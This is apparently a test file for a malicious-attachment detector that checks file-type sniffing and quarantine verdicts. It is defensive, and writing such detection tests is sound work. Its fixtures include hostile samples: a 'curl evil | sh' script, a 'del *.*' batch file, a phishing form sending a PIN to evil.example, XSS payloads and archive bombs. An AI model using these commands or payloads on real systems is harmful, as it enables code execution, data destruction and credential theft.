import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { buildTar, buildZip } from '../../test/helpers/archives.ts'
import { assessAttachment, DEFAULT_ARCHIVE_POLICY, type AttachmentAssessment } from './assess-attachment.ts'

const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex')
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb', 'hex')
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1')
const WEBP = Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x1a, 0, 0, 0]), Buffer.from('WEBPVP8 ')])
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n')
const PE = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60), Buffer.from('PE\0\0', 'latin1')])
const ELF = Buffer.from('7f454c4602010100000000000000000002003e00', 'hex')
const MACHO = Buffer.from('cffaedfe0c00000100000000020000001000000000', 'hex')
const LNK = Buffer.from('4c0000000114020000000000c000000000000046', 'hex')
const RAR = Buffer.from('526172211a0701003392b5e50a01', 'hex')
const SEVEN_ZIP = Buffer.from('377abcaf271c0004', 'hex')
const OLE_HEADER = Buffer.from('d0cf11e0a1b11ae1', 'hex')
const utf16 = (s: string) => Buffer.from(s, 'utf16le')
const OLE_DOC = Buffer.concat([OLE_HEADER, Buffer.alloc(500), utf16('Root Entry'), utf16('WordDocument'), utf16('1Table')])
const OLE_DOC_WITH_VBA = Buffer.concat([OLE_DOC, utf16('Macros'), utf16('VBA'), utf16('_VBA_PROJECT'), utf16('dir')])
const OLE_XLS_WITH_VBA = Buffer.concat([OLE_HEADER, Buffer.alloc(500), utf16('Workbook'), utf16('_VBA_PROJECT_CUR'), utf16('VBA')])
const ooxml = (dir: 'word' | 'xl' | 'ppt', macros: boolean) =>
  buildZip([
    { name: '[Content_Types].xml', content: '<?xml version="1.0"?><Types/>' },
    { name: `${dir}/document.xml`, content: '<document/>' },
    ...(macros ? [{ name: `${dir}/vbaProject.bin`, content: OLE_DOC_WITH_VBA }] : []),
  ])
const GBK_TEXT = Buffer.from('c4fabac3a3acced2b5c4d6a7b8b6cab0dcc1cb', 'hex') // "您好，我的支付失败了" in GBK

type Case = [name: string, filename: string, bytes: Uint8Array, expected: AttachmentAssessment]

const cases: Case[] = [
  ['a PNG screenshot', 'screenshot.png', PNG, { detectedType: 'image/png', verdict: 'ok' }],
  ['a PNG named like a PDF is a PNG', 'receipt.pdf', PNG, { detectedType: 'image/png', verdict: 'ok' }],
  ['a JPEG photo', 'IMG_0001.JPG', JPEG, { detectedType: 'image/jpeg', verdict: 'ok' }],
  ['a GIF', 'a.gif', GIF, { detectedType: 'image/gif', verdict: 'ok' }],
  ['a WebP', 'a.webp', WEBP, { detectedType: 'image/webp', verdict: 'ok' }],
  ['a PDF', 'statement.pdf', PDF, { detectedType: 'application/pdf', verdict: 'ok' }],
  ['a PDF with junk before the header', 'x.pdf', Buffer.concat([Buffer.alloc(100, 0x20), PDF]), { detectedType: 'application/pdf', verdict: 'ok' }],
  ['plain text in GBK', 'note.txt', GBK_TEXT, { detectedType: 'text/plain', verdict: 'ok' }],
  ['a Windows program named like a photo', 'photo.jpg', PE, { detectedType: 'application/vnd.microsoft.portable-executable', verdict: 'quarantine', reason: 'executable' }],
  ['a Linux program', 'report', ELF, { detectedType: 'application/x-elf', verdict: 'quarantine', reason: 'executable' }],
  ['a macOS program', 'report', MACHO, { detectedType: 'application/x-mach-binary', verdict: 'quarantine', reason: 'executable' }],
  ['a Windows shortcut', 'invoice.pdf.lnk', LNK, { detectedType: 'application/x-ms-shortcut', verdict: 'quarantine', reason: 'executable' }],
  ['a shell script by its shebang', 'readme.txt', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), { detectedType: 'text/x-script', verdict: 'quarantine', reason: 'script' }],
  ['JScript that looks like text', 'invoice.js', Buffer.from('var s = new ActiveXObject("WScript.Shell");'), { detectedType: 'text/plain', verdict: 'quarantine', reason: 'dangerous_extension' }],
  ['a batch file', 'fix.BAT', Buffer.from('@echo off\r\ndel *.*\r\n'), { detectedType: 'text/plain', verdict: 'quarantine', reason: 'dangerous_extension' }],
  ['PowerShell', 'run.ps1', Buffer.from('Invoke-WebRequest'), { detectedType: 'text/plain', verdict: 'quarantine', reason: 'dangerous_extension' }],
  ['an extension hidden by a trailing dot and space', 'invoice.pdf.scr. ', Buffer.from('hello'), { detectedType: 'text/plain', verdict: 'quarantine', reason: 'dangerous_extension' }],
  ['an HTA', 'update.hta', Buffer.from('<html><body>hi</body></html>'), { detectedType: 'text/html', verdict: 'quarantine', reason: 'dangerous_extension' }],
  ['HTML without script', 'page.html', Buffer.from('<!DOCTYPE html><html><body><p>Order 123</p></body></html>'), { detectedType: 'text/html', verdict: 'ok' }],
  ['HTML with a script element', 'page.html', Buffer.from('<html><script>location="https://okpay.example"</script></html>'), { detectedType: 'text/html', verdict: 'quarantine', reason: 'html_with_script' }],
  ['HTML with an event handler, named .txt', 'page.txt', Buffer.from('<html><img src=x onerror="alert(1)"></html>'), { detectedType: 'text/html', verdict: 'quarantine', reason: 'html_with_script' }],
  ['a phishing form posting elsewhere', 'login.htm', Buffer.from('<html><form action="https://evil.example/steal"><input name=pin></form>'), { detectedType: 'text/html', verdict: 'quarantine', reason: 'html_with_script' }],
  ['SVG with script', 'logo.svg', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), { detectedType: 'image/svg+xml', verdict: 'quarantine', reason: 'html_with_script' }],
  ['a plain SVG', 'logo.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'), { detectedType: 'image/svg+xml', verdict: 'ok' }],
  ['a Word document', 'form.docx', ooxml('word', false), { detectedType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', verdict: 'ok' }],
  ['a macro-enabled Word document named .docx', 'form.docx', ooxml('word', true), { detectedType: 'application/vnd.ms-word.document.macroEnabled.12', verdict: 'quarantine', reason: 'macro_enabled_office' }],
  ['a macro-enabled workbook', 'sheet.xlsx', ooxml('xl', true), { detectedType: 'application/vnd.ms-excel.sheet.macroEnabled.12', verdict: 'quarantine', reason: 'macro_enabled_office' }],
  ['a macro-enabled presentation', 'deck.pptx', ooxml('ppt', true), { detectedType: 'application/vnd.ms-powerpoint.presentation.macroEnabled.12', verdict: 'quarantine', reason: 'macro_enabled_office' }],
  ['a legacy Word document', 'letter.doc', OLE_DOC, { detectedType: 'application/msword', verdict: 'ok' }],
  ['a legacy Word document with a VBA project', 'letter.doc', OLE_DOC_WITH_VBA, { detectedType: 'application/msword', verdict: 'quarantine', reason: 'macro_enabled_office' }],
  ['a legacy workbook with a VBA project', 'sheet.xls', OLE_XLS_WITH_VBA, { detectedType: 'application/vnd.ms-excel', verdict: 'quarantine', reason: 'macro_enabled_office' }],
  ['a JAR', 'tool.zip', buildZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X\n' }, { name: 'X.class', content: 'x' }]), { detectedType: 'application/java-archive', verdict: 'quarantine', reason: 'executable' }],
  ['a ZIP of screenshots', 'shots.zip', buildZip([{ name: 'a.png', content: PNG }, { name: 'b.jpg', content: JPEG }]), { detectedType: 'application/zip', verdict: 'ok' }],
  ['a ZIP with an executable inside', 'docs.zip', buildZip([{ name: 'a.png', content: PNG }, { name: 'invoice.exe', content: PE }]), { detectedType: 'application/zip', verdict: 'quarantine', reason: 'dangerous_extension', detail: 'invoice.exe' }],
  ['a ZIP with a program disguised as a text file', 'docs.zip', buildZip([{ name: 'readme.txt', content: PE }]), { detectedType: 'application/zip', verdict: 'quarantine', reason: 'executable', detail: 'readme.txt' }],
  ['a ZIP in a ZIP', 'outer.zip', buildZip([{ name: 'inner.zip', content: buildZip([{ name: 'a.png', content: PNG }]) }]), { detectedType: 'application/zip', verdict: 'ok' }],
  ['a ZIP in a ZIP in a ZIP', 'outer.zip', buildZip([{ name: 'mid.zip', content: buildZip([{ name: 'inner.zip', content: buildZip([{ name: 'a.png', content: PNG }]) }]) }]), { detectedType: 'application/zip', verdict: 'quarantine', reason: 'archive_too_deep', detail: 'mid.zip/inner.zip' }],
  ['a ZIP bomb (10 MiB of zeros)', 'bomb.zip', buildZip([{ name: 'zeros.bin', content: Buffer.alloc(10 * 1024 * 1024) }]), { detectedType: 'application/zip', verdict: 'quarantine', reason: 'archive_ratio', detail: 'zeros.bin' }],
  ['an encrypted ZIP', 'secret.zip', buildZip([{ name: 'a.pdf', content: PDF, store: true, encrypted: true }]), { detectedType: 'application/zip', verdict: 'quarantine', reason: 'archive_encrypted', detail: 'a.pdf' }],
  ['a PDF with a ZIP holding a program appended', 'statement.pdf', Buffer.concat([PDF, buildZip([{ name: 'a.txt', content: PE }])]), { detectedType: 'application/pdf', verdict: 'quarantine', reason: 'executable', detail: 'a.txt' }],
  ['a truncated ZIP', 'broken.zip', buildZip([{ name: 'a.png', content: PNG }]).subarray(0, 40), { detectedType: 'application/zip', verdict: 'quarantine', reason: 'archive_unreadable' }],
  ['a RAR cannot be inspected', 'files.rar', RAR, { detectedType: 'application/vnd.rar', verdict: 'quarantine', reason: 'archive_not_inspectable' }],
  ['a 7z cannot be inspected', 'files.7z', SEVEN_ZIP, { detectedType: 'application/x-7z-compressed', verdict: 'quarantine', reason: 'archive_not_inspectable' }],
  ['a gzipped log', 'app.log.gz', gzipSync('line 1\nline 2\n'), { detectedType: 'application/gzip', verdict: 'ok' }],
  ['a gzipped program', 'data.gz', gzipSync(ELF), { detectedType: 'application/gzip', verdict: 'quarantine', reason: 'executable', detail: 'data' }],
  ['a gzip bomb', 'zeros.gz', gzipSync(Buffer.alloc(20 * 1024 * 1024)), { detectedType: 'application/gzip', verdict: 'quarantine', reason: 'archive_ratio' }],
  ['a tarball with a script inside', 'src.tgz', gzipSync(buildTar([{ name: 'a.txt', content: 'hi' }, { name: 'install.sh', content: 'echo' }])), { detectedType: 'application/gzip', verdict: 'quarantine', reason: 'dangerous_extension', detail: 'src.tar/install.sh' }],
  ['a plain tarball', 'logs.tar', buildTar([{ name: 'a.txt', content: 'hi' }]), { detectedType: 'application/x-tar', verdict: 'ok' }],
]

describe('assessAttachment', () => {
  it.each(cases)('%s', (_name, filename, bytes, expected) => {
    expect(assessAttachment({ filename, declaredType: 'application/octet-stream', bytes })).toEqual(expected)
  })

  it('quarantines an archive whose declared contents exceed the expansion budget', () => {
    const zip = buildZip([{ name: 'a.txt', content: 'x'.repeat(5000) }, { name: 'b.txt', content: 'y'.repeat(5000) }])
    const policy = { ...DEFAULT_ARCHIVE_POLICY, maxExpandedBytes: 8000 }
    expect(assessAttachment({ filename: 'a.zip', declaredType: 'application/zip', bytes: zip }, policy)).toEqual({
      detectedType: 'application/zip',
      verdict: 'quarantine',
      reason: 'archive_too_large',
    })
  })
})
